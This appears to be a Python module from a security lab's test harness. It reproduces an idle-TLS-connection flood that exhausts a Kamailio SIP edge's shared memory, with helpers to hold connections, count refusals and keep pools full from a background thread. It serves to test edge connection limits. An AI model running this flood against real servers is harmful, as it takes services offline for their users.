"""Idle TLS connections held open against the edge: the attack that filled its shared memory.

Each connection completes its handshake and then sends nothing (or, with `first_bytes`, a
few bytes that never make a SIP message). Kamailio keeps about 80 KB of shared memory per
such connection until it closes it; the edge must refuse them past a per-source limit and
close them quickly.
"""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Iterable
from dataclasses import dataclass, field

from lab.attack.targets import Target, connect


def scanner_context() -> ssl.SSLContext:
    """A client context that accepts any certificate, as a scanner's does."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


@dataclass
class HeldConnections:
    """What an idle-connection attack got: the connections still open, and the refusals."""

    sockets: list[ssl.SSLSocket] = field(default_factory=list)
    refused: int = 0
    attempts: int = 0

    def alive(self) -> int:
        """How many held connections the edge has not closed yet (a non-blocking peek)."""
        count = 0
        for sock in self.sockets:
            if sock.fileno() < 0:
                continue
            sock.setblocking(False)
            try:
                data = sock.recv(1)
            except (ssl.SSLWantReadError, BlockingIOError):
                count += 1
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if data:
                count += 1
            else:
                sock.close()
        return count

    def close(self) -> None:
        for sock in self.sockets:
            sock.close()
        self.sockets.clear()

    def __enter__(self) -> HeldConnections:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def hold_idle_connections(target: Target, sources: Iterable[str], per_source: int,
                          time_limit_s: float, first_bytes: bytes = b"",
                          timeout_s: float = 3.0) -> HeldConnections:
    """Open up to `per_source` TLS connections from each source and keep them idle.

    Bounded by the count and by `time_limit_s`. A connection counts as refused when the edge
    closes or resets it during the handshake (Kamailio accepts, then drops, a connection over
    a limit).
    """
    held = HeldConnections()
    context = scanner_context()
    deadline = time.monotonic() + time_limit_s
    for source in sources:
        for _ in range(per_source):
            if time.monotonic() >= deadline:
                return held
            held.attempts += 1
            try:
                raw = connect(target, source, timeout_s)
            except OSError:
                held.refused += 1
                continue
            try:
                tls = context.wrap_socket(raw, server_hostname="attacker.invalid")
                if first_bytes:
                    tls.sendall(first_bytes)
            except (OSError, ssl.SSLError):
                raw.close()
                held.refused += 1
                continue
            held.sockets.append(tls)
    return held


def wait_until_closed(held: HeldConnections, within_s: float, poll_s: float = 0.25) -> float:
    """Seconds until the edge closed every held connection; `within_s` if it did not."""
    start = time.monotonic()
    while time.monotonic() - start < within_s:
        if held.alive() == 0:
            return time.monotonic() - start
        time.sleep(poll_s)
    return within_s


def open_raw_connections(target: Target, source: str, count: int,
                         timeout_s: float = 3.0) -> list[socket.socket]:
    """TCP connections that never start TLS (half-open from the TLS point of view)."""
    sockets = []
    for _ in range(count):
        try:
            sockets.append(connect(target, source, timeout_s))
        except OSError:
            break
    return sockets


class IdleFlood:
    """Keeps re-opening idle TLS connections from `sources` in a background thread, so the
    per-source pools stay full while something else (Meta's call) runs.

    Each round tries `per_source_attempts` connections from every source, then pauses
    `round_pause_s`. Stops by itself after `attempt_limit` connection attempts or
    `time_limit_s` seconds, whichever comes first, or on `stop()`. Holds every connection it
    got until `stop()`.
    """

    def __init__(self, target: Target, sources: list[str], attempt_limit: int,
                 time_limit_s: float, first_bytes: bytes = b"", per_source_attempts: int = 64,
                 round_pause_s: float = 0.5) -> None:
        self.target = target
        self.sources = sources
        self.attempt_limit = attempt_limit
        self.time_limit_s = time_limit_s
        self.first_bytes = first_bytes
        self.per_source_attempts = per_source_attempts
        self.round_pause_s = round_pause_s
        self.held = HeldConnections()
        self.rounds = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="idle-flood", daemon=True)

    def __enter__(self) -> IdleFlood:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def running(self) -> bool:
        return self._thread.is_alive()

    def _run(self) -> None:
        deadline = time.monotonic() + self.time_limit_s
        while not self._stop.is_set() and self.held.attempts < self.attempt_limit:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return
            per_source = max(1, min(self.per_source_attempts,
                                    (self.attempt_limit - self.held.attempts) // len(self.sources)))
            round_ = hold_idle_connections(self.target, self.sources, per_source, remaining,
                                           self.first_bytes)
            self.held.sockets += round_.sockets
            self.held.refused += round_.refused
            self.held.attempts += round_.attempts
            self.rounds += 1
            self._stop.wait(self.round_pause_s)

    def wait_rounds(self, rounds: int, within_s: float) -> None:
        """Until `rounds` rounds are done (the pools are as full as the edge lets them be)."""
        deadline = time.monotonic() + within_s
        while self.rounds < rounds and self.running and time.monotonic() < deadline:
            time.sleep(0.05)

    def stop(self) -> None:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(timeout=15)
        self.held.close()
